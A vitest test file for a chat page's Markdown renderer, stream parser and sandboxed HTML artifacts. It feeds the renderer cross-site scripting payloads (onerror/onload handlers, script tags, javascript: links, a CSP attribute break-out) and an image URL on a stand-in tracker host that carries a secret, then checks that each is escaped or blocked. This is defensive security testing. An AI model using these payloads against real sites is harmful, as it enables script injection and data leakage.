/**
 * The two pieces of the chat page that handle untrusted bytes, tested without a browser: the
 * Markdown renderer (model output → HTML) and the stream parser (SSE → text deltas).
 */
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../web/src/lib/markdown.js';
import { SseParser, type StreamEvent } from '../../web/src/lib/sse.js';
import { findArtifacts, sandboxDocument } from '../../web/src/lib/artifacts.js';

describe('web: Markdown of model answers', () => {
  it('escapes raw HTML: no tag a model writes reaches the DOM', () => {
    const html = renderMarkdown(
      'Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n<iframe src="//evil"></iframe>\n\n<svg onload=alert(3)>',
    );
    expect(html).not.toMatch(/<(img|script|iframe|svg)\b/i);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    expect(html).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
  });

  it('refuses dangerous link schemes and opens others without referrer', () => {
    const html = renderMarkdown(
      '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](vbscript:x) [d](data:text/html,<script>x</script>) [e](https://example.org/x)',
    );
    expect(html).not.toMatch(/href="(javascript|vbscript|data):/i);
    expect(html).toContain('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">e</a>');
  });

  it('does not load images from an answer (they could leak the conversation)', () => {
    const html = renderMarkdown('![pixel](https://tracker.example/p.png?c=secret)');
    expect(html).not.toContain('<img');
  });

  it('escapes code, with or without a known language', () => {
    const unknown = renderMarkdown('```nosuchlang\n<b>bold</b>\n```');
    expect(unknown).toContain('&lt;b&gt;bold&lt;/b&gt;');
    expect(unknown).not.toContain('<b>');
    const tricky = renderMarkdown('```"><img src=x onerror=alert(1)>\nx\n```');
    expect(tricky).not.toMatch(/<img/i);
  });
});

describe('web: chat stream parser', () => {
  const frame = (content: string) => `data: ${JSON.stringify({ choices: [{ delta: { content } }] })}\n\n`;

  it('yields deltas across arbitrary chunk boundaries and stops at [DONE]', () => {
    const wire = frame('Hel') + ': keep-alive\n\n' + frame('lo') + 'data: [DONE]\n\n';
    for (let cut = 1; cut < wire.length; cut += 7) {
      const p = new SseParser();
      const events = [...p.push(wire.slice(0, cut)), ...p.push(wire.slice(cut)), ...p.end()];
      expect(events).toEqual<StreamEvent[]>([
        { type: 'delta', content: 'Hel' },
        { type: 'delta', content: 'lo' },
        { type: 'done' },
      ]);
    }
  });

  it('accepts CRLF framing and a last event without a blank line', () => {
    const p = new SseParser();
    const events = [
      ...p.push(frame('a').replace(/\n/g, '\r\n')),
      ...p.push(`data: ${JSON.stringify({ choices: [{ delta: { content: 'b' } }] })}`),
      ...p.end(),
    ];
    expect(events).toEqual([
      { type: 'delta', content: 'a' },
      { type: 'delta', content: 'b' },
    ]);
  });

  it('reports a terminal error frame', () => {
    const p = new SseParser();
    const events = p.push(
      frame('partial') + 'data: {"error":{"message":"upstream failed","code":"upstream_error"}}\n\n',
    );
    expect(events).toEqual([
      { type: 'delta', content: 'partial' },
      { type: 'error', code: 'upstream_error', message: 'upstream failed' },
    ]);
  });

  it('ignores role-only, empty and malformed frames', () => {
    const p = new SseParser();
    const events = p.push(
      'data: {"choices":[{"delta":{"role":"assistant"}}]}\n\n' + 'data: not json\n\n' + 'event: ping\n\n' + frame('x'),
    );
    expect(events).toEqual([{ type: 'delta', content: 'x' }]);
  });
});

describe('web: HTML artifacts', () => {
  it('finds html and svg code blocks only', () => {
    const md = 'x\n```html\n<p>a</p>\n```\n```js\nlet a\n```\n~~~svg\n<svg></svg>\n~~~\n';
    expect(findArtifacts(md)).toEqual([
      { lang: 'html', code: '<p>a</p>' },
      { lang: 'svg', code: '<svg></svg>' },
    ]);
  });

  it('puts the policy before any byte of the content, which cannot close the attribute', () => {
    const policy = "default-src 'none'; style-src 'unsafe-inline'";
    const doc = sandboxDocument(
      '<!-- <head> --><head><meta http-equiv="Content-Security-Policy" content="default-src *">',
      policy,
    );
    expect(
      doc.startsWith(
        `<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="${policy.replace(/'/g, "'")}">`,
      ),
    ).toBe(true);
    const evil = sandboxDocument('x', 'a" onload="alert(1)');
    expect(evil).toContain('content="a&quot; onload=&quot;alert(1)"');
  });
});
